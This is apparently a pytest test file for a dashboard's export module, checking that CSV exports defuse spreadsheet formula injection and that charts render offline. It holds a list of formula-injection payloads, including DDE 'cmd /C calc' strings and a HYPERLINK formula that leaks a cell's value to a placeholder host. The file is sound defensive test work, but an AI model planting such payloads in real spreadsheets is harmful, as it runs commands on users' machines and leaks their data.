"""Exports: CSV that a spreadsheet cannot run as formulas (UTF-8 with BOM), charts rendered offline as PNG/SVG."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import altair as alt
import pandas as pd
import pytest

from cxdash.export import FORMULA_STARTS, chart_png, chart_svg, neutralise, to_safe_csv


def test_formula_like_text_is_quoted_and_numbers_are_not() -> None:
    df = pd.DataFrame(
        {
            "touchpoint": ['=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tTab", "Delivery", "ok-then"],
            "impact": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
        }
    )
    data = to_safe_csv(df)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert back["touchpoint"].tolist()[:5] == ['\'=HYPERLINK("http://x")', "'+1", "'-2", "'@SUM(A1)", "'\tTab"]
    assert back["touchpoint"].tolist()[5:] == ["Delivery", "ok-then"]
    assert back["impact"].tolist()[0] == -0.5  # a negative number stays a number


def test_headers_index_and_japanese_survive() -> None:
    df = pd.DataFrame({"=cmd": ["配送スピード"]}, index=pd.Index(["-x"], name="driver"))
    back = pd.read_csv(io.BytesIO(to_safe_csv(df, index=True)), encoding="utf-8-sig")
    assert list(back.columns) == ["driver", "'=cmd"]
    assert back.iloc[0].tolist() == ["'-x", "配送スピード"]
    assert neutralise(3) == 3 and neutralise(None) is None


def test_charts_render_offline() -> None:
    pytest.importorskip("vl_convert")
    chart = alt.Chart(pd.DataFrame({"a": [1, 2], "b": [3, 4]})).mark_point().encode(x="a:Q", y="b:Q")
    png = chart_png(chart)
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 1000
    svg = chart_svg(chart)
    assert svg.lstrip().startswith(b"<svg") and b"</svg>" in svg


def test_concatenated_charts_export_too() -> None:
    pytest.importorskip("vl_convert")
    import altair as alt
    import pandas as pd

    from cxdash.export import chart_png

    base = alt.Chart(pd.DataFrame({"x": [1, 2], "y": [3, 4]})).mark_point().encode(x="x", y="y")
    png = chart_png(alt.vconcat(base, base))
    assert png[:8] == b"\x89PNG\r\n\x1a\n"


# ----------------------------------------------------------------------------------------- formula injection

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "=1+1",
]


@pytest.mark.parametrize("dtype", [object, "str", "category"])
def test_every_injection_payload_is_neutralised_in_cells_and_headers(dtype: object) -> None:
    df = pd.DataFrame({p: [p, "plain"] for p in INJECTIONS}).astype(dtype)  # type: ignore[call-overload]
    raw = to_safe_csv(df).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw, newline="")) for cell in row]
    assert len(cells) == 3 * len(INJECTIONS)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells  # nothing a spreadsheet would run
    assert sorted(c for c in cells if c != "plain") == sorted(["'" + p for p in INJECTIONS] * 2)


def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula() -> None:
    df = pd.DataFrame({"comment": ["fine\r=cmd|' /C calc'!A0", "fine\n@SUM(1)", "fine\r\n+1"], "n": [1, 2, 3]})
    raw = to_safe_csv(df).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert [r[0] for r in rows[1:]] == df["comment"].tolist()  # each stays one quoted cell of its own row
    assert all(f'"{cell}"' in raw for cell in df["comment"])  # quoted, so Excel keeps the break inside the cell


def test_neutralised_text_keeps_every_character_after_the_apostrophe() -> None:
    for payload in INJECTIONS + ["＝全角", "Delivery", "", "'already"]:
        out = neutralise(payload)
        assert out == ("'" + payload if payload.startswith(FORMULA_STARTS) else payload)


def test_every_download_in_the_app_goes_through_to_safe_csv() -> None:
    """No page or widget writes a CSV or a spreadsheet by itself: to_csv lives in cxdash/export.py only."""
    repo = Path(__file__).resolve().parents[2]
    sources = [repo / "app.py", *(repo / "pages").glob("*.py"), *(repo / "cxdash").rglob("*.py")]
    own = {repo / "cxdash" / "export.py", repo / "cxdash" / "demo" / "generate.py"}  # the demo writes its inputs
    offenders = [
        f"{path.relative_to(repo)}:{n}"
        for path in sources
        if path not in own
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter|csv\.writer\(", line)
    ]
    assert offenders == []
